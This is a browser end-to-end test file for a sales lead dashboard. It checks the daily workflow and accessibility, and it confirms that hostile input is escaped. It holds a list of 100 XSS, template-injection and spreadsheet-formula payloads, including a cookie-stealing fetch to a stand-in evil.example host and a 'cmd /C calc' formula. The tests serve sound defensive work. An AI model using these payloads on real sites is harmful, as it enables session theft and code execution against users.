"""The dashboard in a browser: a working day, hostile texts in every field, what axe says of it."""

import json
import re
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from itertools import cycle, repeat
from pathlib import Path
from typing import Any
from urllib.parse import urlencode

import pytest
from playwright.sync_api import Browser, BrowserContext, Dialog, FilePayload, Page, expect

from e2e.chromium import chromium
from e2e.node_clients import install_node_clients
from patience import PATIENCE_S, until
from served import Served, serving
from warmlead.dashboard.access import local_token
from warmlead.model.loading import ready_text
from warmlead.settings import LOCAL_WRITE_KEY

pytestmark = [pytest.mark.slow, pytest.mark.xdist_group("browser")]

ZONE = "Pacific/Auckland"
SALES = "generic: {allow_unsigned: true}"
MOST_BYTES = 60_000
TRIED = "what was tried"
"""Stands for the page after its form was sent."""

XSS = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    "`><img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    '"><svg/onload=alert(1)>',
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=javascript:alert(1)>",
    "<base href=//evil.example/>",
    "<form action=javascript:alert(1)><input type=submit>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '" autofocus onfocus="alert(1)',
    '" style="animation:x" onanimationstart="alert(1)',
    "{{7*7}}",
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    "{% import os %}{{os.system('id')}}",
    "{{config}}",
    "${alert(1)}",
    "#{alert(1)}",
    "<%= alert(1) %>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<script src=//evil.example/x.js></script>",
    "<script>fetch('//evil.example/'+document.cookie)</script>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style>*{background:url(//evil.example/)}</style>",
    "<img src=//evil.example/x.png>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<!--<script>alert(1)</script>-->",
    "]]><script>alert(1)</script>",
    "'-alert(1)-'",
    '"-alert(1)-"',
    "';alert(1);//",
    '";alert(1);//',
    "</svg><script>alert(1)</script>",
    "</table><script>alert(1)</script>",
    "</dd></dl><script>alert(1)</script>",
    "</option></select><script>alert(1)</script>",
    "<x onclick=alert(1) tabindex=1 id=x>",
    "<xss onpointerenter=alert(1)>x</xss>",
    "<button popovertarget=x>x</button><xss popover id=x onbeforetoggle=alert(1)>",
    "<dialog open onclose=alert(1)>",
    "<style>@keyframes x{}</style><xss style='animation-name:x' onanimationend=alert(1)>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<keygen autofocus onfocus=alert(1)>",
    "<frameset onload=alert(1)>",
    "<table background=javascript:alert(1)>",
    "<div style=width:expression(alert(1))>",
    "\u202e<script>alert(1)</script>",
    "\ufeff<script>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
    "<ſcript>alert(1)</ſcript>",
    "<script\u2028>alert(1)</script>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    '=HYPERLINK("javascript:alert(1)")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "<time datetime='x' onclick=alert(1)>x</time>",
    "<time datetime='2026-01-01T00:00:00Z'><img src=x onerror=alert(1)></time>",
    "<b data-threshold='*' data-counts='[alert(1)]'>",
    "<form data-threshold=x data-counts=alert(1)><button></button></form>",
    "<portal src=javascript:alert(1)>",
    "<applet code=javascript:alert(1)>",
    "<a target=_blank href=//evil.example>x</a><script>alert(1)</script>",
)  # fmt: skip


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with chromium() as browser:
        yield browser


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
    folder = tmp_path_factory.mktemp("warmlead")
    (folder / "sales.yaml").write_text(SALES)
    with serving(folder / "data", WARMLEAD_SALES=str(folder / "sales.yaml")) as served:
        yield served


def opened(browser: Browser, server: Served, **how: Any) -> BrowserContext:
    """A browser that has opened the link, and asks nobody but the server."""
    context = browser.new_context(timezone_id=ZONE, locale="en-GB", **how)
    context.set_default_timeout(PATIENCE_S * 1000)
    elsewhere: list[str] = []
    context.on(
        "request",
        lambda asked: None if asked.url.startswith(server.base) else elsewhere.append(asked.url),
    )
    page = context.new_page()
    page.goto(f"{server.base}/dashboard/open?token={local_token(server.data)}")
    expect(page.get_by_role("heading", name="Overview")).to_be_visible()
    page.close()
    setattr(context, "elsewhere", elsewhere)  # noqa: B010  # for the tests, beside Playwright's own
    return context


def track(server: Served, *calls: dict[str, Any]) -> None:
    body = json.dumps({"writeKey": LOCAL_WRITE_KEY, "batch": list(calls)}).encode()
    status, told = server.post("/v1/batch", body, {"Content-Type": "application/json"})
    assert status == 200, told


def a_demo_request(who: str, **traits: Any) -> list[dict[str, Any]]:
    """The calls by which a person becomes an MQL of the ready-made model."""
    known = {
        "email": who,
        "firstName": "Grace",
        "lastName": "Hopper",
        "company": "Acme",
        "title": "VP Marketing",
        "employees": 300,
        "country": "US",
        **traits,
    }
    return [
        {"type": "identify", "userId": who, "traits": known},
        {"type": "track", "userId": who, "event": "Demo Requested", "properties": {}},
        {"type": "track", "userId": who, "event": "Webinar Attended", "properties": {}},
    ]


def stage_of(server: Served, who: str) -> str:
    lead = server.lead(who)
    return lead["stage"] if lead else ""


def figure(page: Page, stage: str) -> int:
    """How many leads stand in a stage, as the overview says."""
    row = page.locator("tr", has=page.get_by_role("rowheader", name=stage, exact=True))
    return int(row.locator("td.num").first.inner_text())


# --- a working day -------------------------------------------------------------------------


def test_a_lead_comes_in_is_touched_and_accepted_and_the_figures_follow(
    browser: Browser, server: Served
) -> None:
    who = "grace@acme.example"
    page = opened(browser, server).new_page()
    track(server, *a_demo_request(who))
    until(lambda: stage_of(server, who) == "mql")

    page.goto(f"{server.base}/dashboard/")
    assert figure(page, "MQL") == 1
    page.get_by_role("link", name="MQL", exact=True).click()
    page.get_by_role("link", name="Grace Hopper").click()
    explained = server.json("lead", "explain", who)
    assert page.locator(".big dd").inner_text() == str(explained["score"])
    assert page.locator(".sum tfoot b").inner_text() == str(explained["score"])

    page.get_by_label("Note").fill("Wants a demo on Monday")
    page.get_by_role("button", name="Touched").click()
    expect(page.get_by_text("Sales: touched by local")).to_be_visible()
    expect(page.get_by_text("“Wants a demo on Monday”")).to_be_visible()
    page.get_by_role("button", name="Accept").click()
    expect(page.locator(".about .stage")).to_have_text("SQL")

    assert stage_of(server, who) == "sql"
    stated = server.json("lead", "show", who)["statements"]
    assert [(each["said"], each["source"], each["details"]["by"]) for each in stated] == [
        ("touched", "dashboard", "local"),
        ("accepted", "dashboard", "local"),
    ]
    page.get_by_role("link", name="Overview").click()
    assert (figure(page, "MQL"), figure(page, "SQL")) == (0, 1)
    tomorrow = f"{datetime.now(UTC) + timedelta(days=1):%Y-%m-%d}"
    kpis = server.json("run", "report", "--period", "day", "--as-of", tomorrow)
    assert kpis["conversions"]["mql_to_sql"]["reached"] == 1


def test_sales_rejects_with_a_reason(browser: Browser, server: Served) -> None:
    who = "linus@acme.example"
    page = opened(browser, server).new_page()
    track(server, *a_demo_request(who))
    until(lambda: stage_of(server, who) == "mql")
    page.goto(f"{server.base}/dashboard/leads?q={who}")
    page.get_by_label("Reason").select_option("bad_fit")
    page.get_by_role("button", name="Reject").click()
    expect(page.locator(".about .stage")).to_have_text("disqualified")
    expect(page.get_by_text("Sales: rejected (bad fit) by local")).to_be_visible()


def test_times_are_in_the_viewers_zone(browser: Browser, server: Served) -> None:
    page = opened(browser, server).new_page()
    page.goto(f"{server.base}/dashboard/health")
    shown = page.locator("footer time")
    expect(shown).to_contain_text("today")
    assert re.fullmatch(r"\d{4}-\d\d-\d\d \d\d:\d\d UTC", shown.get_attribute("title") or "")


def test_the_pages_work_without_scripts(browser: Browser, server: Served) -> None:
    track(server, *a_demo_request("noscript@acme.example"))
    until(lambda: stage_of(server, "noscript@acme.example") == "mql")
    page = opened(browser, server, java_script_enabled=False).new_page()
    page.goto(f"{server.base}/dashboard/?at=200")
    expect(page.locator("output [data-kept]")).to_have_text("0")
    page.goto(f"{server.base}/dashboard/leads")
    page.locator("select[name=stage]").select_option("mql")
    page.get_by_role("button", name="Show").click()
    assert "stage=mql" in page.url


def test_the_threshold_moves_live(browser: Browser, server: Served) -> None:
    track(server, *a_demo_request("live@acme.example"))
    until(lambda: stage_of(server, "live@acme.example") == "mql")
    page = opened(browser, server).new_page()
    page.goto(f"{server.base}/dashboard/")
    slider = page.get_by_label("Try a threshold")
    slider.focus()
    page.keyboard.press("End")
    expect(page.locator("output [data-at]")).to_have_text("200")
    expect(page.locator("output [data-kept]")).to_have_text("0")


def test_an_author_tries_a_file_and_a_story(browser: Browser, server: Served) -> None:
    page = opened(browser, server, java_script_enabled=False).new_page()
    page.goto(f"{server.base}/dashboard/model")
    page.get_by_role("link", name="Try a file or a story").click()
    changed = ready_text("b2b-saas").replace(
        "demo_requested, points: 50", "demo_requested, points: 60"
    )
    model = FilePayload(name="m.yaml", mimeType="application/yaml", buffer=changed.encode())
    page.locator("input[type=file]").set_input_files(model)
    page.get_by_role("button", name="Try", exact=True).click()
    expect(page.locator(".differences")).to_contain_text("demo_requested points")
    expect(page.locator(".differences del")).to_have_text("50")
    expect(page.locator(".differences ins")).to_have_text("60")
    expect(page.locator(".story")).to_contain_text("sent: offered to sales")

    page.locator("textarea[name=model]").fill("signals: {}\nstages:\n  mql: {entr: score > 1}\n")
    page.get_by_role("button", name="Try", exact=True).click()
    expect(page.locator(".findings")).to_contain_text(
        "line 3, column 9 stages.mql.entr: unknown key"
    )
    expect(page.locator("textarea[name=model]")).to_have_value(re.compile("entr"))


def test_without_the_link_a_browser_sees_nothing(browser: Browser, server: Served) -> None:
    page = browser.new_page()
    answer = page.goto(f"{server.base}/dashboard/leads")
    assert answer
    assert answer.status == 401
    expect(page.get_by_role("heading", name="This page is private")).to_be_visible()


# --- hostile texts -------------------------------------------------------------------------


FIRST_TEXTS = range(0, len(XSS), 5)
"""Where in the list the texts of each person begin: one field after the other has the next.

What is escaped in a field is escaped whatever the text. So each text is in several fields, and
each field has twenty texts; neighbours in the list are alike, so some of every kind.
"""


def texts_of_people() -> list[Iterator[str]]:
    """The texts for the fields of each person; a formula fills every column of somebody."""
    mixed = [cycle(XSS[first:] + XSS[:first]) for first in FIRST_TEXTS]
    return mixed + [repeat(text) for text in XSS if text.startswith(("=", "@", "+", "-"))]


def hostile_calls(number: int, texts: Iterator[str]) -> list[dict[str, Any]]:
    """The calls of a person with a text in every field that a tracker can fill."""
    who = f"hostile-{number}@acme.example"

    def filled(*names: str) -> dict[str, str]:
        return {name: next(texts) for name in names}

    traits = filled(
        "firstName", "lastName", "company", "title", "phone", "industry", "website", "city"
    )
    page = {"url": "https://acme.example/?utm_source=x", "referrer": "https://b.example/"}
    context = {
        "campaign": filled("source", "medium", "name", "term", "content"),
        "page": {**page, **filled("title")},
        **filled("userAgent"),
    }
    properties = {"kind": "whitepaper", **filled("content", "form", "name", "webinar")}
    made = a_demo_request(who, **traits, **{next(texts)[:60]: next(texts), "employees": 300})
    for event in ("Content Downloaded", next(texts)[:60]):
        made.append({"type": "track", "userId": who, "event": event, "properties": properties})
    return [{**call, "context": context} for call in made]


def test_a_hundred_hostile_texts_in_every_field_run_nowhere(
    browser: Browser, server: Served
) -> None:
    assert len(XSS) == len(set(XSS)) == 100
    people = texts_of_people()
    for number, texts in enumerate(people):
        track(server, *hostile_calls(number, texts))
    last = f"hostile-{len(people) - 1}@acme.example"
    until(lambda: stage_of(server, last) == "mql")
    context = opened(browser, server)
    page = context.new_page()
    ran: list[str] = []
    faults: list[str] = []

    def note(dialog: Dialog) -> None:
        ran.append(dialog.message)
        dialog.dismiss()

    page.on("dialog", note)
    page.on("console", lambda said: faults.append(said.text) if said.type == "error" else None)

    ids = [row["id"] for row in server.json("lead", "list", "--most", "500")]
    assert len(ids) >= len(people)
    for number, texts in enumerate(texts_of_people()):
        state(server, number, texts)
    for path in ("/", "/leads", "/leads?order=since", "/reports", "/health", "/model"):
        page.goto(f"{server.base}/dashboard{path}")
    page.goto(f"{server.base}/dashboard/model/unmatched")
    hostile = "".join(f"{json.dumps(text)}: {json.dumps(text)}\n" for text in XSS)
    for name, text in (("model", hostile), ("text", f"about: 1\n{hostile}")):
        page.goto(f"{server.base}/dashboard/model/try")
        page.locator(f"textarea[name={name}]").fill(text)
        page.locator("select[name=story]").select_option("own")
        page.get_by_role("button", name="Try", exact=True).click()
        expect(page.locator(".findings").first).to_contain_text("<script>")
        assert len(page.content()) < MOST_BYTES
    for first in range(0, len(XSS), 3):
        page.goto(f"{server.base}/dashboard/leads?{query(cycle(XSS[first:]))}")
    shown = ""
    for id_ in ids:
        answer = page.goto(f"{server.base}/dashboard/leads/{id_}")
        assert answer
        assert answer.status == 200
        assert len(answer.body()) < MOST_BYTES
        shown += page.locator("main").inner_text()
    assert sum(text in shown for text in XSS) > len(XSS) // 2  # as texts, for people to read
    assert ran == []
    assert faults == []
    assert getattr(context, "elsewhere") == []  # noqa: B009  # as above
    assert page.locator("script:not([src])").count() == 0


def state(server: Served, number: int, texts: Iterator[str]) -> None:
    """Has sales say texts about a person, in its note and all else that it tells."""
    said = {
        "said": "lost",
        "email": f"hostile-{number}@acme.example",
        "reason": next(texts)[:90],
        **{each: next(texts)[:190] for each in ("authority", "need", "timing", "note", "by")},
    }
    status, told = server.post(
        "/sales/generic", json.dumps(said).encode(), {"Content-Type": "application/json"}
    )
    assert status == 200, told


def query(texts: Iterator[str]) -> str:
    return urlencode(
        {"q": next(texts)[:300], "source": next(texts)[:60], "owner": next(texts)[:200]}
    )


def test_a_file_of_hostile_leads_has_no_formula(browser: Browser, server: Served) -> None:
    context = opened(browser, server)
    answer = context.request.get(f"{server.base}/dashboard/leads.csv")
    assert answer.status == 200
    cells = re.findall(r'(?:^|,)"?([^,"\r\n])', answer.text(), re.MULTILINE)
    assert cells
    assert not {"=", "+", "@", "\t"} & set(cells)


# --- accessibility -------------------------------------------------------------------------


@pytest.fixture(scope="module")
def axe() -> str:
    found: Path = install_node_clients() / "node_modules/axe-core/axe.min.js"
    return found.read_text(encoding="utf-8")


@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("width", [390, 1440])
def test_axe_finds_nothing_serious(
    browser: Browser, server: Served, axe: str, width: int, scheme: str
) -> None:
    who = "axe@acme.example"
    track(server, *a_demo_request(who))
    until(lambda: stage_of(server, who) == "mql")
    lead = server.lead(who)
    assert lead
    context = opened(
        browser,
        server,
        viewport={"width": width, "height": 900},
        color_scheme=scheme,
        bypass_csp=True,  # axe is put into the page from outside
    )
    page = context.new_page()
    paths = ("/", "/leads", f"/leads/{lead['id']}", "/health", "/scores", "/reports", "/nobody")
    for path in (*paths, "/model", "/model/unmatched", "/model/try", TRIED):
        if path == TRIED:
            page.locator("textarea[name=model]").fill(ready_text("product-led"))
            page.get_by_role("button", name="Try", exact=True).click()
            expect(page.locator(".story")).to_be_visible()
        else:
            page.goto(f"{server.base}/dashboard{path}")
        page.evaluate(axe)
        found = page.evaluate("axe.run().then(result => result.violations)")
        told = [
            (path, each["id"], each["nodes"][0]["html"][:200])
            for each in found
            if each["impact"] in ("serious", "critical")
        ]
        assert told == []
        assert page.evaluate("document.documentElement.scrollWidth <= innerWidth"), path
